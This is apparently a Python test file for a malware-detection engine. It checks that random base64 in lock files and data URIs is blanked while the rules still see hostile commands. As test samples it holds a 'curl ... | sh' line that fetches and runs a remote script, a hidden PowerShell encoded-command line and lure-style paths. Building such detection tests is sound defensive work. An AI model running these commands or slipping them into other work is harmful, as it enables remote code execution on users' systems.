"""The rules' view of a long text: random base64 blanked, everything a command needs kept."""

from __future__ import annotations

import base64
import hashlib

from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection import Engine, Level
from app.detection.datalines import without_data_lines
from app.detection.noise import looks_random, rules_view
from tests.app.detection import bigtexts

FOREVER = float("inf")


def _digest(i: int) -> str:
    return base64.b64encode(hashlib.sha512(str(i).encode()).digest()).decode()


def test_digests_and_images_are_blanked_in_place() -> None:
    text = f'"integrity": "sha512-{_digest(1)}",\n<img src="data:image/png;base64,{_digest(2) * 40}">\n'
    data = text.encode()
    view = rules_view(data, FOREVER)
    assert view is not None and len(view) == len(data)
    assert b'"integrity": "' in view and b'<img src="data:image/png;base64,' in view
    assert _digest(1).encode() not in view and b"A" * 88 in view


def test_wrapped_base64_is_one_block_and_keeps_its_line_ends() -> None:
    block = bigtexts.wrapped(hashlib.sha512(b"x").digest() * 40)
    view = rules_view(block.encode(), FOREVER)
    assert view is not None
    assert view.count(b"\n") == block.count("\n")
    assert set(view) <= set(b"A=\n")


def test_words_paths_slugs_and_hex_are_kept() -> None:
    # no run of these mixes cases like random base64: each is read by the rules as written
    kept = [
        "https://cdn.example.org/wp-content/uploads/verify-human-captcha-update-2024/index",
        "/Users/JohnSmith/Library/LaunchAgents/com-apple-softwareupdate-agent",
        hashlib.sha256(b"x").hexdigest(),
        "SYSTEM32-WINDOWSPOWERSHELL-V1-POWERSHELL-EXE-ARGUMENTS",
    ]
    text = "\n".join(kept).encode()
    assert rules_view(text, FOREVER) is None
    assert not any(looks_random(k.encode()) for k in kept)
    assert looks_random(_digest(3).encode())


def test_a_payload_among_a_megabyte_of_digests_is_still_read_by_the_rules() -> None:
    engine = Engine(budget_ms=60_000, strict=True)
    line = "curl -fsSL http://203.0.113.7/i.sh | sh"
    alone = engine.analyze(line)
    text = bigtexts.hide(bigtexts.npm_lock(bigtexts.MiB - 4096), line)
    verdict = engine.analyze(text)
    assert verdict.complete
    assert verdict.level >= alone.level >= Level.SUSPICIOUS
    assert set(alone.rule_ids) <= set(verdict.rule_ids)


def test_an_encoded_command_still_reads_as_one_to_the_rules() -> None:
    # `-enc` followed by base64: the blob is blanked, it is still base64 to the pattern
    engine = Engine(budget_ms=60_000, strict=True)
    blob = base64.b64encode("Write-Output 'hello there, this is fine'".encode("utf-16-le"))
    line = f"powershell -w hidden -enc {blob.decode()}"
    text = bigtexts.hide(bigtexts.go_sum(128 * 1024), line)
    assert "PG-WIN-PS-ENCODED-COMMAND" in engine.analyze(text).rule_ids


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=4000))
def test_the_view_keeps_length_and_every_byte_outside_a_run(data: bytes) -> None:
    view = rules_view(data, FOREVER)
    if view is None:
        return
    # what is left once a lock file's lines of data are out (datalines.py), blanked in place
    data = without_data_lines(data, FOREVER) or data
    assert len(view) == len(data)
    for a, b in zip(data, view, strict=True):
        assert a == b or (b == ord("A") and (chr(a).isalnum() or chr(a) in "+/_-"))


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("aZ09+/=_-\n \"'.é")), max_size=3000))
def test_the_view_never_raises_on_text(text: str) -> None:
    data = text.encode()
    view = rules_view(data, FOREVER)
    assert view is None or len(view) == len(without_data_lines(data, FOREVER) or data)
